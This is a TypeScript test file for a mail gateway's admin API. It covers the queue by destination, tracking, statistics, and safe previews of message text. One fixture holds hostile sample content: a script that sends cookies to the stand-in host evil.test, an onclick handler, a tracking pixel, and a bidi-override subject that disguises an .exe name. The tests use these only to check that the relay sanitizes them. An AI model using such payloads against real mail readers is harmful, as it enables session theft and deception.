// What a gateway admin expects to see (issue 12): the queue by destination with its actions, a message's text shown
// safely, message tracking by outcome, client and subject, and the statistics page; called as the admin server calls
// them (input and output through the contract's schemas) over a live relay with its submission listener, its content
// filters, and a real SMTP sink as the internal server. Downloads over HTTP are in admin-download.test.ts.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { queueHandlers } from '../../src-relay/admin/handlers/queue.ts';
import { statisticsHandlers } from '../../src-relay/admin/handlers/statistics.ts';
import { apiContext } from '../helpers/api-context.ts';
import { apiError, callHandler } from '../helpers/api-call.ts';
import { Sink } from '../helpers/sink.ts';
import { send, message } from '../helpers/smtp.ts';
import { messageWithAttachments } from '../helpers/mail-parts.ts';
import { addUser, officeMessage, queueIdOf, startSubmissionRelay, submit, until, type SubmissionRelay } from '../helpers/submission.ts';

const TEST_TIMEOUT_MS = 60_000;
/** Recipients the sink answers 451 for while they are in here; `gone` ones get 550. */
const busy = new Set<string>();
const gone = new Set<string>();
let sink: Sink;
let relay: SubmissionRelay;

before(async () => {
  sink = await Sink.start({
    onRecipient: (address) =>
      busy.has(address) ? { code: 451, text: '4.3.0 mailbox busy, try later' } : gone.has(address) ? { code: 550, text: '5.1.1 no such mailbox' } : undefined,
  });
  // one retry an hour: a deferred message stays deferred until the test retries it; a message without a Date is
  // quarantined (score 11, quarantine at 10)
  relay = await startSubmissionRelay(sink.port, { queue: { retryIntervalsSec: [3600] }, filters: { enabled: true, rules: { MISSING_DATE: 11 } } });
  await addUser(relay.dataDir, 'alice', ['alice@example.test']);
});
after(async () => {
  await relay.stop();
  await sink.stop();
});

type Handlers = typeof queueHandlers & typeof statisticsHandlers;
function call<K extends keyof Handlers>(name: K, input: unknown = {}) {
  return callHandler({ ...queueHandlers, ...statisticsHandlers } as Handlers, name, input, apiContext(relay.relay));
}

const store = () => relay.relay.queue.store;
const attempted = (id: string) => store().recipients(id).every((recipient) => recipient.attempts > 0);
const isHeld = (id: string) => store().message(id)!.held === 1;

async function inbound(from: string, to: string[], raw: string): Promise<string> {
  return queueIdOf((await send(relay.port, from, to, raw)).response);
}

async function outbound(to: string[], subject: string): Promise<string> {
  const info = await submit(relay.submission, { user: 'alice' }, 'alice@example.test', to, officeMessage('alice@example.test', to.join(', '), subject));
  return queueIdOf(info.response);
}

test('statistics count the mail in and out, quarantined and refused, with the top senders, recipients and domains', { timeout: TEST_TIMEOUT_MS }, async () => {
  const before = await call('statistics.get', { range: '24h' });
  for (let i = 0; i < 3; i++) await inbound('top@busy-sender.test', ['boss@example.test'], message(`stats ${i}`));
  await inbound('other@busy-sender.test', ['boss@example.test', 'desk2@example.test'], message('stats other'));
  await inbound('tina@sender.test', ['boss@example.test'], 'From: tina@sender.test\r\nSubject: stats kept\r\n\r\nundated\r\n');
  await assert.rejects(send(relay.port, 'x@sender.test', ['boss@example.test'], messageWithAttachments('stats exe', [{ name: 'setup.exe', data: 'MZ' }])), /550/);
  const sent = await outbound(['far@three.test'], 'stats out');
  await until('delivered to the sink', () => sink.messages.filter((sunk) => sunk.raw.includes('Subject: stats ')).length >= 4);

  const now = await call('statistics.get', { range: '24h' });
  const delta = (name: keyof typeof now.mail) => now.mail[name] - before.mail[name];
  assert.deepEqual(
    { inbound: delta('inbound'), submitted: delta('submitted'), quarantined: delta('quarantined'), refused: delta('refused'), virus: delta('virus'), junk: delta('junk') },
    { inbound: 5, submitted: 1, quarantined: 1, refused: 1, virus: 0, junk: 0 },
  );
  assert.ok(now.refusals.some((row) => row.name === 'policy' && row.count >= 1), JSON.stringify(now.refusals));
  assert.deepEqual(now.top.senders[0], { name: 'top@busy-sender.test', count: 3 });
  assert.deepEqual(now.top.senderDomains[0], { name: 'busy-sender.test', count: 4 });
  assert.equal(now.top.recipients[0]!.name, 'boss@example.test');
  assert.ok(now.top.senders.length <= 10 && !now.capped);
  assert.ok(now.messages >= 6);
  // Moat's own mail (an alert, a digest, a release answer) is no mail the office received or sent
  for (let i = 0; i < 3; i++) await relay.relay.queue.enqueueGenerated(`From: Moat <moat@relay.example.test>\r\nTo: it-admin@example.test\r\nSubject: alert ${i}\r\n\r\nqueue\r\n`, '', ['it-admin@example.test'], 'mail');
  const withOwn = await call('statistics.get', { range: '24h' });
  assert.equal(withOwn.messages, now.messages);
  assert.ok(!withOwn.top.recipients.some((row) => row.name === 'it-admin@example.test'), JSON.stringify(withOwn.top.recipients));
  for (const range of ['7d', '30d'] as const) {
    const wider = await call('statistics.get', { range });
    assert.ok(wider.mail.inbound >= now.mail.inbound && wider.to - wider.from > now.to - now.from, range);
  }
  const disk = await call('dashboard.disk');
  assert.ok(disk && disk.total > 0 && disk.free >= 0 && disk.free <= disk.total);
  assert.equal(disk.path, relay.dataDir);
  await call('queue.act', { action: 'delete', ids: [sent] });
});

test('the queue by destination groups waiting recipients by the internal server and by domain, with state and last error', { timeout: TEST_TIMEOUT_MS }, async () => {
  busy.add('desk@example.test');
  const internal = await inbound('carol@sender.test', ['desk@example.test'], message('for the desk'));
  // the tests have no DNS: mail going out waits with "MX lookup failed"
  const both = await outbound(['pat@one.test', 'quinn@two.test'], 'to one and two');
  const two = await outbound(['rob@Two.test'], 'to two');
  await until('every recipient has had a try', () => [internal, both, two].every(attempted));

  const { destinations, queueHeld, truncated } = await call('queue.destinations');
  assert.deepEqual([queueHeld, truncated], [false, false]);
  assert.deepEqual(
    destinations.map((row) => [row.route, row.domain, row.messages, row.recipients, row.held]),
    [
      ['outbound', 'two.test', 2, 2, 0],
      ['internal', null, 1, 1, 0],
      ['outbound', 'one.test', 1, 1, 0],
    ],
    'largest first; a domain in any case is one destination',
  );
  const [toTwo, toDesk] = destinations;
  assert.equal(toDesk!.state, 'deferred', 'the internal server answers, it only defers');
  assert.match(toDesk!.lastError!, /451 4\.3\.0 mailbox busy/);
  assert.ok(toDesk!.nextAttemptAt! > Date.now() + 3000_000, 'next try in about an hour');
  assert.equal(toDesk!.attempts, 1);
  assert.ok(['deferred', 'down'].includes(toTwo!.state), toTwo!.state);
  assert.match(toTwo!.lastError!, /MX lookup for two\.test failed/);
  // a message held while it was due stays overdue, and is not tried: the next try shown is that of the others
  const heldDesk = await inbound('dora@sender.test', ['desk@example.test'], message('held at the desk'));
  await until('the held one has had a try', () => attempted(heldDesk));
  await call('queue.act', { action: 'hold', ids: [heldDesk] });
  store().db.prepare('UPDATE recipients SET next_attempt_at = ? WHERE message_id = ?').run(Date.now() - 300_000, heldDesk);
  const deskRow = (await call('queue.destinations')).destinations.find((row) => row.route === 'internal')!;
  assert.deepEqual([deskRow.messages, deskRow.held], [2, 1]);
  assert.ok(deskRow.nextAttemptAt! > Date.now() + 3000_000, `next try ${deskRow.nextAttemptAt! - Date.now()} ms from now, not the held message's past one`);
  await call('queue.act', { action: 'delete', ids: [heldDesk] });

  // hold the whole destination: exactly the messages waiting for two.test, one transaction
  const held = await call('queue.actOnDestination', { action: 'hold', route: 'outbound', domain: 'TWO.test' });
  assert.deepEqual(held.done, [both, two].sort());
  assert.deepEqual([isHeld(internal), isHeld(both), isHeld(two)], [false, true, true]);
  assert.match(store().history(two).at(-1)!.detail!, /^held by admin@127\.0\.0\.1 with everything to two\.test$/);
  const after = (await call('queue.destinations')).destinations;
  assert.deepEqual(
    after.map((row) => [row.domain, row.state, row.held]),
    [
      ['two.test', 'held', 2],
      [null, 'deferred', 0],
      // holding is per message: the one also waiting for one.test waits there too
      ['one.test', 'held', 1],
    ],
  );
  assert.deepEqual((await call('queue.actOnDestination', { action: 'hold', route: 'outbound', domain: 'two.test' })).done, [], 'held already: nothing changes');
  // a held message is tried once released: Retry now leaves it alone, and does not count it as scheduled
  assert.deepEqual((await call('queue.actOnDestination', { action: 'retry', route: 'outbound', domain: 'two.test' })).done, []);
  assert.ok(store().recipients(two)[0]!.next_attempt_at > Date.now() + 60_000, 'its schedule is as it was');
  // delivery paused for the whole queue: every destination says so, not "held" (which offered Hold)
  await call('queue.holdAll');
  assert.deepEqual((await call('queue.destinations')).destinations.map((row) => [row.domain, row.state]), [['two.test', 'paused'], [null, 'paused'], ['one.test', 'paused']]);
  await call('queue.resume');
  const released = await call('queue.actOnDestination', { action: 'release', route: 'outbound', domain: 'two.test' });
  assert.deepEqual(released.done, [both, two].sort());
  assert.deepEqual([isHeld(both), isHeld(two)], [false, false]);

  // retry the internal server once it takes the mail: only its recipients are made due, and it is delivered
  // a release makes them due: wait for the try it causes, so their schedule is an hour out again
  await until('the released mail has been tried again', () => [both, two].every((id) => store().recipients(id).every((r) => r.next_attempt_at > Date.now() + 60_000)));
  busy.delete('desk@example.test');
  const nextOutbound = store().recipients(two)[0]!.next_attempt_at;
  const retried = await call('queue.actOnDestination', { action: 'retry', route: 'internal', domain: null });
  assert.deepEqual(retried.done, [internal]);
  await until('the desk message is delivered', () => store().message(internal)!.status === 'done');
  assert.equal(store().recipients(two)[0]!.next_attempt_at, nextOutbound, 'the other destinations keep their schedule');
  assert.deepEqual((await call('queue.destinations')).destinations.map((row) => row.domain), ['two.test', 'one.test']);

  await assert.rejects(call('queue.actOnDestination', { action: 'hold', route: 'internal', domain: 'example.test' }), /domain/);
  await assert.rejects(call('queue.actOnDestination', { action: 'hold', route: 'outbound', domain: null }), /domain/);
  await call('queue.act', { action: 'delete', ids: [both, two] });
});

test('a message\'s text comes back as safe text: an HTML-only message without tags or script, controls replaced', { timeout: TEST_TIMEOUT_MS }, async () => {
  busy.add('text@example.test');
  const html =
    'From: Mallory <mallory@sender.test>\r\nTo: text@example.test\r\nSubject: invoice \u202egpj.exe\r\nDate: Sat, 28 Nov 2026 10:00:00 +0000\r\n' +
    'MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' +
    '<html><head><style>p{color:red}</style></head><body><p onclick="steal()">Please <b>pay</b> today.</p>' +
    '<script>document.location="http://evil.test/"+document.cookie</script><img src="http://track.test/pixel.gif"></body></html>\r\n';
  const id = await inbound('mallory@sender.test', ['text@example.test'], html);
  const body = await call('queue.body', { id });
  assert.equal(body.text, 'Please pay today.');
  assert.doesNotMatch(body.text, /[<>]|evil|track|steal|color/);
  assert.equal(body.truncated, false);
  const subject = body.headers.find((header) => header.name.toLowerCase() === 'subject')!;
  assert.equal(subject.value, 'invoice \ufffdgpj.exe', 'a bidi override is replaced, so the name reads as it is');

  const quarantined = await inbound('mallory@sender.test', ['text@example.test'], 'From: mallory@sender.test\r\nSubject: undated\r\n\r\nNo date here.\r\n');
  assert.equal(store().message(quarantined)!.status, 'quarantined');
  assert.equal((await call('queue.body', { id: quarantined })).text.trim(), 'No date here.', 'quarantined mail has its text too');

  await call('queue.act', { action: 'delete', ids: [id] });
  await assert.rejects(call('queue.body', { id }), apiError('MESSAGE_FILE_GONE'));
  await assert.rejects(call('queue.body', { id: 'NOSUCHMESSAGE00000000' }), apiError('MESSAGE_NOT_FOUND'));
  busy.delete('text@example.test');
});

test('tracking answers for each recipient: a message delivered to one and waiting for another is found as both, and a search for a recipient by what happened to that recipient', { timeout: TEST_TIMEOUT_MS }, async () => {
  const tag = `split-${Date.now()}`;
  busy.add('later@example.test');
  const id = await inbound('una@sender.test', ['ok@example.test', 'later@example.test'], message(`${tag} split`));
  await until('one delivered, one deferred', () => store().recipients(id).some((r) => r.status === 'delivered') && store().recipients(id).some((r) => r.status === 'pending' && r.attempts > 0));
  const ids = async (input: Record<string, unknown>) => (await call('tracking.search', { subject: tag, ...input })).rows.map((row) => row.id);
  assert.deepEqual(await ids({ outcome: 'delivered' }), [id]);
  assert.deepEqual(await ids({ outcome: 'deferred' }), [id]);
  assert.deepEqual(await ids({ recipient: 'ok@example.test', outcome: 'delivered' }), [id]);
  assert.deepEqual(await ids({ recipient: 'ok@example.test', outcome: 'deferred' }), []);
  assert.deepEqual(await ids({ recipient: 'later@example.test', outcome: 'deferred' }), [id]);
  assert.deepEqual(await ids({ recipient: 'later@example.test', outcome: 'delivered' }), []);
  const [row] = (await call('tracking.search', { subject: tag })).rows;
  assert.equal(row!.outcome, 'deferred');
  assert.deepEqual(row!.recipientOutcomes, [
    { address: 'later@example.test', outcome: 'deferred' },
    { address: 'ok@example.test', outcome: 'delivered' },
  ]);
  await call('queue.act', { action: 'hold', ids: [id] });
  assert.deepEqual(await ids({ recipient: 'later@example.test', outcome: 'held' }), [id]);
  assert.deepEqual(await ids({ recipient: 'ok@example.test', outcome: 'held' }), [], 'delivered already: holding the message does not hold it');
  assert.deepEqual((await call('tracking.search', { subject: tag })).rows[0]!.recipientOutcomes.map((each) => each.outcome), ['held', 'delivered']);
  await call('queue.act', { action: 'delete', ids: [id] });
  assert.deepEqual((await call('tracking.search', { subject: tag })).rows[0]!.recipientOutcomes, [], 'a deleted message has one outcome');
  busy.delete('later@example.test');
});

test('the text shown is cut at 8 KiB and says so; text up to the limit is shown whole', { timeout: TEST_TIMEOUT_MS }, async () => {
  busy.add('long@example.test');
  // 128 lines of 62 characters and CR LF: 8192 characters of text, exactly the limit
  const line = `${'x'.repeat(61)}y`;
  const exactly = Array.from({ length: 128 }, () => `${line}\n`).join('');
  const raw = (text: string) => message('long text', text.replaceAll('\n', '\r\n'));
  const whole = await inbound('sam@sender.test', ['long@example.test'], raw(exactly));
  const wholeBody = await call('queue.body', { id: whole });
  assert.equal(wholeBody.truncated, false);
  assert.equal(wholeBody.text, exactly, 'whole, its line breaks as \\n');
  const cut = await inbound('sam@sender.test', ['long@example.test'], raw(`${exactly}z\n`));
  const cutBody = await call('queue.body', { id: cut });
  assert.equal(cutBody.truncated, true);
  assert.doesNotMatch(cutBody.text, /z/, 'what is past the limit is not shown');
  await call('queue.act', { action: 'delete', ids: [whole, cut] });
  busy.delete('long@example.test');
});

test('tracking narrows by outcome, client address and subject, and refusals by client address', { timeout: TEST_TIMEOUT_MS }, async () => {
  const tag = `track-${Date.now()}`;
  busy.add('later@example.test');
  gone.add('nobody@example.test');
  const delivered = await inbound('tina@sender.test', ['ok@example.test'], message(`${tag} delivered`));
  const deferred = await inbound('tina@sender.test', ['later@example.test'], message(`${tag} deferred`));
  const bounced = await inbound('tina@sender.test', ['nobody@example.test'], message(`${tag} bounced`));
  const held = await inbound('tina@sender.test', ['later@example.test'], message(`${tag} held`));
  const quarantined = await inbound('tina@sender.test', ['ok@example.test'], `From: tina@sender.test\r\nSubject: ${tag} kept\r\n\r\nundated\r\n`);
  await assert.rejects(send(relay.port, 'tina@sender.test', ['ok@example.test'], messageWithAttachments(`${tag} refused`, [{ name: 'tool.exe', data: 'MZ' }])), /550 5\.7\.1/);
  await until('every one has its end', () =>
    store().message(delivered)!.status === 'done' && store().message(bounced)!.status === 'done' && attempted(deferred) && attempted(held),
  );
  await call('queue.act', { action: 'hold', ids: [held] });

  const find = async (input: Record<string, unknown>) => (await call('tracking.search', { sender: 'tina@sender.test', ...input })).rows;
  const ids = async (input: Record<string, unknown>) => (await find({ subject: tag, ...input })).map((row) => row.id);
  assert.deepEqual(await ids({}), [quarantined, held, bounced, deferred, delivered], 'the subject narrows messages; refused mail has no subject');
  assert.deepEqual(await ids({ subject: `${tag} DEF` }), [deferred]);
  assert.deepEqual(await ids({ outcome: 'delivered' }), [delivered]);
  assert.deepEqual(await ids({ outcome: 'deferred' }), [deferred], 'a held message waits for the admin, not for a retry');
  assert.deepEqual(await ids({ outcome: 'held' }), [held]);
  assert.deepEqual(await ids({ outcome: 'bounced' }), [bounced]);
  assert.deepEqual(await ids({ outcome: 'quarantined' }), [quarantined]);
  const deferredRow = (await find({ subject: `${tag} deferred` }))[0]!;
  assert.equal(deferredRow.outcome, 'deferred', 'queued after a failed try says so');

  const refused = await find({ outcome: 'refused' });
  assert.ok(refused.length >= 1 && refused.every((row) => row.outcome === 'refused' && row.id === null));
  assert.match(refused[0]!.detail!, /Refused after the content check/);
  assert.deepEqual((await find({ outcome: 'refused', clientIp: '127.0.0.1' })).length, refused.length);
  assert.deepEqual(await find({ clientIp: '10.9.8.' }), [], 'no mail from that network');
  assert.deepEqual(await ids({ clientIp: '127.0.0' }), [quarantined, held, bounced, deferred, delivered]);
  // the Sender field also finds the From line people see, where it differs from the envelope sender
  const fromLine = await inbound('bounces+7781@mailer.test', ['ok@example.test'], message(`${tag} from line`).replace('From: Alice <alice@sender.test>', 'From: Partner Boss <boss@partner.test>'));
  const bySender = async (sender: string) => (await call('tracking.search', { sender, subject: tag })).rows.map((row) => row.id);
  assert.deepEqual(await bySender('boss@partner.test'), [fromLine]);
  assert.deepEqual(await bySender('Partner Boss'), [fromLine]);
  assert.deepEqual(await bySender('bounces+7781@mailer'), [fromLine], 'and still the envelope sender');
  busy.delete('later@example.test');
  assert.deepEqual(await ids({ outcome: 'deleted' }), [], 'nothing deleted yet');
  await call('queue.act', { action: 'delete', ids: [deferred, held] });
  // what the list shows as Deleted can be asked for
  assert.deepEqual(await ids({ outcome: 'deleted' }), [held, deferred]);
  assert.equal((await find({ subject: `${tag} deferred` }))[0]!.outcome, 'deleted');
});

test('a message\'s preview is walked in the filter thread: 12 MB of HTML keeps the SMTP thread mostly idle while it is read', { timeout: TEST_TIMEOUT_MS }, async () => {
  // 24 HTML parts of 500 KiB: each is stripped of its tags, about half a second of CPU on the thread that walks it
  const part = `--b\r\nContent-Type: text/html\r\n\r\n${`<a href="http://x.test/">y</a><b><i>${'z'.repeat(30)}\r\n`.repeat(7300)}`;
  const raw = `From: heavy@sender.test\r\nTo: heavy@example.test\r\nSubject: heavy\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${part.repeat(24)}--b--\r\n`;
  const id = await inbound('heavy@sender.test', ['heavy@example.test'], raw);
  assert.equal(store().message(id)!.status, 'quarantined', 'undated: it stays in the spool');
  const before = performance.eventLoopUtilization();
  const body = await call('queue.body', { id });
  const smtpThread = performance.eventLoopUtilization(before);
  assert.ok(body.text.startsWith('y [→ http://x.test/] zzz'), body.text.slice(0, 80));
  // walked here, the SMTP thread would be busy for most of the preview's time (0.9 and more, measured)
  assert.ok(smtpThread.utilization < 0.5, `the SMTP thread was busy ${Math.round(smtpThread.active)} of ${Math.round(smtpThread.active + smtpThread.idle)} ms of the preview`);
  await call('queue.act', { action: 'delete', ids: [id] });
});
